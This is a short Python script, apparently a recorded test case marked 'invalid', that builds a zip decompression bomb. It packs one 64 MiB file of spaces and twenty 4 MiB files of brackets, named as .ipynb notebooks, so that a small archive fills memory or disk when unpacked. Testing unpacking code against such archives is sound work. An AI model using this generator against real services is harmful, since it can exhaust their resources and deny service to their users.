# Wants: that unpacking a small zip fills memory or disk
# Status: invalid
import sys, zipfile

with zipfile.ZipFile(sys.argv[1], "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("boston.ipynb", b" " * 2**26)
    for number in range(20):
        archive.writestr(f"{number}.ipynb", b"[" * 2**22)
